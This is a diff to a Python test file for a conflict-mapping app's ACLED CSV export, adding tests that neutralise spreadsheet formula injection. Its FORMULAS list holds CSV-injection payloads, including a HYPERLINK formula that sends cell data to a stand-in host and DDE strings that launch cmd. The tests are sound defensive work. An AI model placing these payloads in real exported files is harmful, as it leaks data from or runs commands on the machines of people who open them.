@@ -10,10 +10,8 @@ tooltip, Markdown in the app's messages, unchecked ``related_urls``.
 from __future__ import annotations
 
 import json
-import shutil
 import subprocess
 import sys
-from pathlib import Path
 
 import pytest
 from conftest import ROOT, SEED
@@ -95,3 +93,50 @@ def test_seeds_option_naming_a_file_is_an_error(work_dirs):
     r = _cli("build", "--seeds", str(seeds / SEED.name), "--geo", str(geo), "--out", str(out), "--no-curated")
     assert r.returncode == 2 and "not a folder" in r.stderr and "Traceback" not in r.stderr
     assert not out.exists()
+
+
+# --------------------------------------------------------------------------- formulas in the exported CSV
+
+#: What a spreadsheet runs as a formula when a cell starts with it (OWASP "CSV injection").
+FORMULAS = ["=HYPERLINK(\"http://x.test/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("cell", FORMULAS)
+def test_acled_csv_cells_never_start_a_formula(cell):
+    """A source, note, evidence, actor or reviewer starting with = + - @ (or a tab or CR
+    before one) was written as is: Excel and LibreOffice run it when the analyst opens the
+    export. Now such a text cell starts with a ' (shown as text, the rest kept)."""
+    import csv
+    import io
+
+    import pandas as pd
+
+    from mapapp.exports import acled_csv
+
+    row = {"event_id": "a-e1", "event_date": "2021-04-22", "event_type": "Battles", "sub_event_type": "Armed clash",
+           "actor1": cell, "actor2": cell, "location": cell, "latitude": 37.05, "longitude": 41.23, "source": cell,
+           "notes": cell, "evidence": cell, "location_ar": cell, "source_url": cell, "reviewed_by": cell,
+           "tags": [cell], "fatalities": 2}
+    data = acled_csv(pd.DataFrame([row]))
+    out = next(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
+    for column in ("actor1", "actor2", "location", "source", "evidence", "location_ar", "source_url", "reviewed_by",
+                   "tags"):
+        assert out[column] == "'" + cell, column
+    assert not out["notes"].startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert out["fatalities"] == "2" and out["latitude"] == "37.05"
+
+
+def test_acled_csv_negative_numbers_and_plain_text_are_unchanged():
+    import csv
+    import io
+
+    import pandas as pd
+
+    from mapapp.exports import acled_csv
+
+    row = {"event_id": "a-e1", "event_date": "2021-04-22", "event_type": "Battles", "latitude": 37.05,
+           "longitude": -41.23, "source": "Shafaq News", "evidence": "اشتباكات في حي طي = قتلى", "notes": "x"}
+    out = next(csv.DictReader(io.StringIO(acled_csv(pd.DataFrame([row])).decode("utf-8"), newline="")))
+    assert out["longitude"] == "-41.23" and out["source"] == "Shafaq News"
+    assert out["evidence"] == "اشتباكات في حي طي = قتلى"
